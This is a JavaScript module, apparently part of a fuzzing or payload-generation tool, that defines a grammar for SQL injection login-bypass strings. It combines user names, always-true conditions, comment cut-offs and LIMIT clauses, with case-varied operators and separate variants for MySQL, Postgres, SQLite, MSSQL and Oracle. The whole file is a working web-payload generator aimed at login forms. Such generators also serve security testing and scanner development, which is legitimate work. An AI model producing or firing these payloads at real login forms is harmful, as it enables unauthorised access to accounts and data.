import { LOGIN_PLACES } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

/** What people type into login forms: a name, a condition that always holds, the password test cut off. */
export const authBypass = sqlGenerator({
  name: 'auth-bypass',
  places: LOGIN_PLACES,
  rules: {
    start: [
      '{open}{cut}',
      '{open} {or} {truth}{cut}',
      '{open}{or}{glued}{cut}',
      '{open} {or} {truth}{balance}',
      '{open}{balance}',
      '{open} {or} 1=1{limit}{cut}',
    ],
    value: ['admin', 'admin', 'root', '', 'Administrator', 'user'],
    cut: [' {comment}', '{comment}', '{comment}'],
    limit: [' LIMIT 1', ' limit 1,1', ' order by 1', ' or 2=2'],
    or: ['or', 'OR', 'Or', 'oR'],
    any: [
      '1=1',
      '{digit:a}={digit:a}',
      "'{letter:a}'='{letter:a}'",
      '2>1',
      "'x' like 'x'",
      '1 in (1)',
      'name is not null',
      '{quote}{quote}={quote}{quote}',
      'not 1=2',
    ],
    truth: ['{any}'],
    glued: ['(1=1)', "'1'='1'", '(2)>(1)'],
  },
  byDialect: {
    mysql: {
      or: ['or', 'OR', 'Or', '||'],
      truth: ['{any}', '{any}', '1', 'true'],
      glued: ['(1)', '(1=1)', "'1'='1'", '!0'],
    },
    postgres: { truth: ['{any}', '{any}', 'true'], limit: [' LIMIT 1', ' offset 1', ' order by 1'] },
    sqlite: { truth: ['{any}', '{any}', '1', 'true'], glued: ['(1)', '(1=1)', "'1'='1'"] },
    mssql: { limit: ['', ' order by 1'] },
    oracle: { limit: ['', ' and rownum=1'] },
  },
});
